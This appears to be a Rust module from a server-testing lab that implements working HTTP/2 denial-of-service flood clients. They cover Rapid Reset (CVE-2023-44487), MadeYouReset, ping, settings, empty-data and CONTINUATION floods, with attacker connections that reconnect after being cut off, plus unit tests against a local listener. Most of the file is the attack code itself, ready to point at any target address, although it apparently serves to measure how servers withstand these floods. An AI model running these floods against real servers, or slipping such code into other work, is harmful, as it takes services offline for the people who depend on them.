//! Clients that cost a target much and send little: known attacks on HTTP/2, at a steady pace, so that they leave others of the lab
//! their share of the CPU.
//!
//! An attacker whose connection is ended comes back after a while. Its own requests and answers do not matter.

use std::io;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use rustix::io::Errno;
use rustix::net::{RecvFlags, SendFlags};
use serde::{Deserialize, Serialize};

use crate::clock;
use crate::load::probe;
use crate::wire::http2::{self, kind};

/// The frames of an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FloodKind {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the target has to reset for a fault of the client (CVE-2025-8671).
    MadeYouReset,
    /// PINGs, each of which has an answer.
    Ping,
    /// SETTINGS, each of which has an answer.
    Settings,
    /// A body of nothing that never ends (CVE-2019-9518).
    EmptyData,
    /// A header block that never ends (CVE-2024-27316 and others).
    Continuation,
}

impl FloodKind {
    /// Its name in tables.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made you reset",
            Self::Ping => "ping",
            Self::Settings => "settings",
            Self::EmptyData => "empty data",
            Self::Continuation => "continuation",
        }
    }

    /// Unit number `number` of a connection, written to `out`: a frame, or a request with the frame that makes it an attack.
    fn write(self, out: &mut Vec<u8>, authority: &str, number: u32) {
        let (id, is_first) = (2 * number + 1, number == 0);
        match self {
            Self::RapidReset | Self::MadeYouReset => {
                let block = http2::get(authority, "/", is_first);
                http2::write(out, kind::HEADERS, http2::END_HEADERS | http2::END_STREAM, id, &block);
                if self == Self::RapidReset {
                    http2::write(out, kind::RST_STREAM, 0, id, &http2::CANCEL.to_be_bytes());
                } else {
                    // No window grows by nothing.
                    http2::write(out, kind::WINDOW_UPDATE, 0, id, &[0; 4]);
                }
            }
            Self::Ping => http2::write(out, kind::PING, 0, 0, &[0; 8]),
            Self::Settings => http2::write(out, kind::SETTINGS, 0, 0, &[]),
            Self::EmptyData | Self::Continuation if is_first => {
                let is_data = self == Self::EmptyData;
                let flags = if is_data { http2::END_HEADERS } else { http2::END_STREAM };
                http2::write(out, kind::HEADERS, flags, 1, &http2::get(authority, "/", true));
            }
            Self::EmptyData => http2::write(out, kind::DATA, 0, 1, &[]),
            // A line of its own: literal, without indexing.
            Self::Continuation => http2::write(out, kind::CONTINUATION, 0, 1, b"\0\x04x-aa\x04aaaa"),
        }
    }
}

/// One attack.
#[derive(Debug, Clone)]
pub struct FloodPlan {
    /// Where to connect.
    pub target: SocketAddr,
    /// Its name in requests.
    pub authority: String,
    /// What is sent.
    pub kind: FloodKind,
    /// Connections at a time.
    pub attackers: usize,
    /// Units that all of them send in a second.
    pub rate: f64,
    /// For how long.
    pub length: Duration,
}

/// What the target did about it.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FloodOutcome {
    /// Connections that the target ended.
    pub ended: u64,
    /// Those that were open at the end, for longer than [`JUDGED`].
    pub open: u64,
    /// Units that were sent altogether.
    pub sent: u64,
}

/// A connection that is younger at the end says nothing.
pub const JUDGED: Duration = Duration::from_secs(1);

/// How often each attacker sends.
const TICK: Duration = Duration::from_millis(5);

/// How long an attacker stays away.
const REST: Duration = Duration::from_millis(100);

/// One attacker.
struct Attacker {
    socket: Option<std::net::TcpStream>,
    /// When it connected, or may connect again.
    since: Instant,
    units: u32,
    /// Bytes that the target has not taken yet.
    pending: Vec<u8>,
}

/// Attacks until the time is over or `stop` is set.
///
/// # Errors
/// When no connection comes about at first.
pub fn run(plan: &FloodPlan, stop: &AtomicBool) -> io::Result<FloodOutcome> {
    let start = clock::now();
    let attacker = || Attacker { socket: None, since: start, units: 0, pending: Vec::new() };
    let mut attackers: Vec<Attacker> = (0..plan.attackers).map(|_| attacker()).collect();
    let each = plan.rate * TICK.as_secs_f64() / plan.attackers as f64;
    let (mut outcome, mut ticks) = (FloodOutcome::default(), 0_u32);
    let mut buf = vec![0; 64 * 1024];
    while start.elapsed() < plan.length && !stop.load(Ordering::Relaxed) {
        let units = (each * f64::from(ticks + 1)) as u32 - (each * f64::from(ticks)) as u32;
        for attacker in &mut attackers {
            attacker.act(plan, units, &mut buf, &mut outcome)?;
        }
        ticks += 1;
        clock::pause((start + TICK * ticks).saturating_duration_since(clock::now()));
    }
    let is_open = |attacker: &&Attacker| attacker.socket.is_some() && attacker.since.elapsed() > JUDGED;
    outcome.open = attackers.iter().filter(is_open).count() as u64;
    Ok(outcome)
}

impl Attacker {
    /// Connects if it is time, or sends `units` more, and throws away what has come.
    fn act(
        &mut self,
        plan: &FloodPlan,
        units: u32,
        buf: &mut [u8],
        outcome: &mut FloodOutcome,
    ) -> io::Result<()> {
        let Some(socket) = &self.socket else {
            if clock::now() >= self.since {
                self.connect(plan, outcome)?;
            }
            return Ok(());
        };
        if self.pending.is_empty() {
            for number in self.units..self.units + units {
                plan.kind.write(&mut self.pending, &plan.authority, number);
            }
            self.units += units;
            outcome.sent += u64::from(units);
        }
        let sent = rustix::net::send(socket, &self.pending, SendFlags::DONTWAIT | SendFlags::NOSIGNAL);
        let is_over = match sent {
            Ok(len) => {
                self.pending.drain(..len);
                false
            }
            Err(error) => error != Errno::AGAIN,
        };
        let mut drain = || loop {
            match rustix::net::recv(socket, &mut *buf, RecvFlags::DONTWAIT) {
                Ok((0, _)) => return true,
                Ok(_) => {}
                Err(error) => return error != Errno::AGAIN,
            }
        };
        if drain() || is_over {
            outcome.ended += 1;
            *self = Self { socket: None, since: clock::now() + REST, units: 0, pending: Vec::new() };
        }
        Ok(())
    }

    fn connect(&mut self, plan: &FloodPlan, outcome: &FloodOutcome) -> io::Result<()> {
        match probe::connect(plan.target, 0) {
            Ok(socket) => {
                self.pending = http2::PREFACE.to_vec();
                http2::write(&mut self.pending, kind::SETTINGS, 0, 0, &[]);
                (self.socket, self.since) = (Some(socket), clock::now());
            }
            // A target may take no more from one that it has ended.
            Err(_) if outcome.ended > 0 => self.since = clock::now() + REST,
            Err(error) => return Err(error.into()),
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::{FloodKind, FloodOutcome, FloodPlan, run};
    use crate::wire::http2::{self, kind};
    use std::io::Read as _;
    use std::net::TcpListener;
    use std::sync::atomic::AtomicBool;
    use std::time::Duration;

    fn kinds(flood: FloodKind) -> Vec<(u8, u32)> {
        let mut out = Vec::new();
        (0..2).for_each(|number| flood.write(&mut out, "lab.test", number));
        let (mut rest, mut seen) = (&out[..], Vec::new());
        while let Some((start, _)) = http2::frame(rest) {
            seen.push((start.kind, start.stream));
            rest = &rest[http2::HEAD_LEN + start.len..];
        }
        assert!(rest.is_empty());
        seen
    }

    #[test]
    fn each_attack_has_its_frames() {
        let (head, end) = (kind::HEADERS, kind::RST_STREAM);
        assert_eq!(kinds(FloodKind::RapidReset), [(head, 1), (end, 1), (head, 3), (end, 3)]);
        assert_eq!(kinds(FloodKind::MadeYouReset)[1], (kind::WINDOW_UPDATE, 1));
        assert_eq!(kinds(FloodKind::Ping), [(kind::PING, 0); 2]);
        assert_eq!(kinds(FloodKind::Settings), [(kind::SETTINGS, 0); 2]);
        assert_eq!(kinds(FloodKind::EmptyData), [(head, 1), (kind::DATA, 1)]);
        assert_eq!(kinds(FloodKind::Continuation), [(head, 1), (kind::CONTINUATION, 1)]);
    }

    /// The outcome of an attack on a target that reads so many bytes of each connection and closes it, or reads all.
    fn attacked(limit: Option<usize>) -> FloodOutcome {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let target = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                std::thread::spawn(move || {
                    let (mut buf, mut total) = ([0; 1024], 0);
                    while limit.is_none_or(|limit| total < limit) {
                        match stream.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(len) => total += len,
                        }
                    }
                });
            }
        });
        let plan = FloodPlan {
            target,
            authority: "lab.test".to_owned(),
            kind: FloodKind::Ping,
            attackers: 2,
            rate: 10_000.0,
            length: Duration::from_millis(1200),
        };
        run(&plan, &AtomicBool::new(false)).unwrap()
    }

    #[test]
    fn a_target_that_ends_connections_is_told_from_one_that_does_not() {
        let FloodOutcome { ended, open, .. } = attacked(Some(3000));
        assert!(ended >= 4 && open == 0, "{ended} and {open}");
        let FloodOutcome { ended, open, sent } = attacked(None);
        assert!(ended == 0 && open == 2 && sent > 1000, "{ended}, {open} and {sent}");
    }
}
